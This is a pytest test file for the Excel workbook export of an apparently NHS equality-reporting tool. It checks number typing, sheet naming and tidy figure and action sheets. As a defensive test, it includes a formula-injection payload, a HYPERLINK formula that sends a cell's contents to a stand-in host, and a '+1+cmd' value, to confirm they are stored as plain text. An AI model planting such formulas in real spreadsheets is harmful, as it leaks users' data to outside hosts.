"""A report's workbook from a hand-made report: numbers stored as numbers, one tidy sheet of
figures, one of actions, sheet names in words, and text from data never a formula."""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl import load_workbook

from equitrack.measures.result import Result
from equitrack.reports.content import Figures, Paragraph, Report, Rows, Section
from equitrack.reports.xlsx import sheet_name, typed, write_xlsx

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "value", "number_format"),
    [
        ("9,895", 9895, "#,##0"),
        ("1,234,567", 1234567, "#,##0"),
        ("57.6%", 0.576, "0.0%"),
        ("0%", 0.0, "0.0%"),
        ("2023", 2023, "0"),  # a year stays 2023, not 2,023
        ("-3", -3, "0"),
        ("1.57", 1.57, "0.00"),
        ("2024-02-06", dt.date(2024, 2, 6), "yyyy-mm-dd"),
        ("2026-12-05T18:17:58", dt.datetime(2026, 12, 5, 18, 17, 58), "yyyy-mm-dd hh:mm:ss"),
        ("9,89", "9,89", None),  # not a number as people write one
        ("1.57 (1.19 to 2.08)", "1.57 (1.19 to 2.08)", None),
        ("Band 8a", "Band 8a", None),
        ("2025/26", "2025/26", None),
        (ATTACK, ATTACK, None),
    ],
)
def test_words_that_are_numbers_become_numbers(text: str, value: object, number_format) -> None:
    got, fmt = typed(text)
    assert got == (pytest.approx(value) if isinstance(value, float) else value)
    assert type(got) is type(value) and fmt == number_format


def test_a_sheet_name_is_never_a_title_cut_short() -> None:
    taken = {"contents"}
    assert sheet_name(taken, "What is loaded") == "What is loaded"
    long = "Each recommendation's status and key figure"  # 43 characters
    assert sheet_name(taken, long, "Summary", "Table 1") == "Summary"
    assert sheet_name(taken, long, "Summary", "Table 2") == "Table 2"  # Summary is taken
    assert sheet_name(taken, "What is loaded") == "What is loaded 2"
    assert sheet_name(taken, "Rates: [a/b]?") == "Rates a-b"  # characters Excel refuses
    assert sheet_name(taken, "WRES1, 2025/26") == "WRES1, 2025-26"
    assert all(len(n) <= 31 for n in taken)


def result(group: str, numerator: int | None, denominator: int | None, **more) -> Result:
    return Result("wres2", "RX1", 2026, "wres", group, numerator, denominator, **more)


WHITE = result("White", 90, 300, rate=0.3)
BME = result(
    "BME",
    20,
    100,
    rate=0.2,
    reference_group="White",
    ratio=1.5,
    ratio_ci_low=0.96,
    ratio_ci_high=2.34,
    verdict="adverse, not significant",
)
HIDDEN = result("Unknown", None, None, suppressed=True, reason="too few to show")


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory):
    actions = ("Action", "Owner", "Status", "Since")
    report = Report(
        "scrutiny",
        "Update",
        "RX1, reporting year 2025/26",
        "public",
        "public: counts 1–7 suppressed",
        (
            Section(
                "summary",
                "Summary",
                (
                    Paragraph("words"),
                    Rows(
                        "Each recommendation's status and key figure",
                        ("#", "Status", "Staff"),
                        (("1", "no data loaded", "9,895"),),
                    ),
                ),
            ),
            Section(
                "rec1",
                "Recommendation 1: Data",
                (Rows("Actions", actions, ((ATTACK, "RX1", "done", "2024-02-06"),)),),
                (
                    Section(
                        "rec1-wres2", "Appointment", (Figures("Appointment", (WHITE, BME, HIDDEN)),)
                    ),
                ),
            ),
            Section(
                "rec2",
                "Recommendation 2: More",
                (
                    Rows("Actions", actions, (("+1+cmd", "RX1", "in progress", "2025-01-31"),)),
                    # the same figures under a second recommendation: once in the tidy sheet
                    Figures("Appointment", (WHITE, BME, HIDDEN)),
                ),
            ),
        ),
    )
    path = tmp_path_factory.mktemp("workbook") / "r.xlsx"
    write_xlsx(report, path, {"RX1": "Royal Example NHS Trust"})
    return load_workbook(path)


def test_the_figures_sheet_holds_each_figure_once_with_numbers_as_numbers(workbook) -> None:
    ws = workbook["Figures"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2)]
    assert [r["Group"].value for r in rows] == ["White", "BME", "Unknown"]
    white, bme, hidden = rows
    assert bme["Organisation"].value == "Royal Example NHS Trust"
    assert bme["Organisation code"].value == "RX1" and bme["Year"].value == "2025/26"
    assert bme["Count"].value == 20 and bme["Count"].number_format == "#,##0"
    assert bme["Of"].value == 100
    assert bme["Rate"].value == 0.2 and bme["Rate"].number_format == "0.0%"
    assert (
        bme["Relative likelihood"].value == 1.5
        and bme["Relative likelihood"].number_format == "0.00"
    )
    assert bme["Relative likelihood 95% interval from"].value == 0.96
    assert bme["Compared with"].value == "White" and white["Compared with"].value is None
    assert bme["Verdict"].value == "adverse, not significant"
    assert hidden["Count"].value is None and hidden["Suppressed"].value is True
    assert hidden["Why"].value == "too few to show"
    assert bme["Suppressed"].value is False


def test_every_action_is_in_one_sheet_and_text_from_data_is_never_a_formula(workbook) -> None:
    ws = workbook["Actions"]
    assert [c.value for c in ws[1]] == ["Recommendation", "Action", "Owner", "Status", "Since"]
    rows = list(ws.iter_rows(min_row=2))
    assert [[c.value for c in r] for r in rows] == [
        ["Recommendation 1: Data", ATTACK, "RX1", "done", dt.datetime(2024, 2, 6)],
        ["Recommendation 2: More", "+1+cmd", "RX1", "in progress", dt.datetime(2025, 1, 31)],
    ]
    assert rows[0][1].data_type == "s" and rows[1][1].data_type == "s"
    assert rows[0][4].number_format == "yyyy-mm-dd"
    # the summary's words that are numbers are numbers; its sheet is named by its section
    summary = workbook["Summary"]
    assert [c.value for c in summary[3]] == [1, "no data loaded", 9895]
    assert workbook.sheetnames == ["Contents", "Figures", "Actions", "Summary"]
    contents = list(workbook["Contents"].iter_rows(min_row=6))
    assert [r[0].value for r in contents] == ["Figures", "Actions", "Summary"]
    assert contents[0][0].hyperlink.location == "'Figures'!A1"
    assert "3 rows" in contents[0][2].value


def test_a_table_of_words_made_from_results_gives_its_figures_as_numbers(tmp_path) -> None:
    """The system report's side by side: its cells are words ("20.0% (20 of 100)"); the
    workbook gives the results behind them in the Figures sheet, not the words again."""
    words = Rows(
        "WRES2, BME staff, 2025/26", ("Organisation", "BME figure"), (("RX1", "x"),), (BME,)
    )
    report = Report("system", "S", "s", "board", "rule", (Section("wres2", "WRES2", (words,)),))
    write_xlsx(report, tmp_path / "s.xlsx")
    wb = load_workbook(tmp_path / "s.xlsx")
    assert wb.sheetnames == ["Contents", "Figures"]
    header = [c.value for c in wb["Figures"][1]]
    (row,) = wb["Figures"].iter_rows(min_row=2, values_only=True)
    got = dict(zip(header, row, strict=True))
    assert (got["Measure"], got["Group"], got["Count"], got["Of"]) == ("wres2", "BME", 20, 100)
    assert got["Measure name"] == "Relative likelihood of appointment from shortlisting"


def test_a_table_each_recommendation_has_is_one_sheet_naming_the_section(tmp_path) -> None:
    steps = ("Step", "Owner", "Date")
    report = Report(
        "scrutiny",
        "U",
        "u",
        "board",
        "rule",
        (
            Section(
                "rec1",
                "Recommendation 1: Data",
                (Rows("Next steps", steps, (("a", "RX1", "2026-06-30"),)),),
            ),
            Section("rec2", "Recommendation 2: More", (Rows("Next steps", steps, ()),)),
            Section(
                "rec3",
                "Recommendation 3: Yet",
                (Rows("Next steps", steps, (("b", "RX1", "not set"),)),),
            ),
            Section(
                "dq", "Data quality", (Rows("Rates", ("Year", "Level"), (("2025/26", "12.5%"),)),)
            ),
        ),
    )
    write_xlsx(report, tmp_path / "u.xlsx")
    wb = load_workbook(tmp_path / "u.xlsx")
    assert wb.sheetnames == ["Contents", "Next steps", "Rates"]
    assert list(wb["Next steps"].iter_rows(min_row=2, values_only=True)) == [
        ("Section", "Step", "Owner", "Date"),
        ("Recommendation 1: Data", "a", "RX1", dt.datetime(2026, 6, 30)),
        ("Recommendation 3: Yet", "b", "RX1", "not set"),
    ]
    level = wb["Rates"]["B3"]  # a percentage as words is a share shown as a percentage
    assert (level.value, level.number_format) == (0.125, "0.0%")
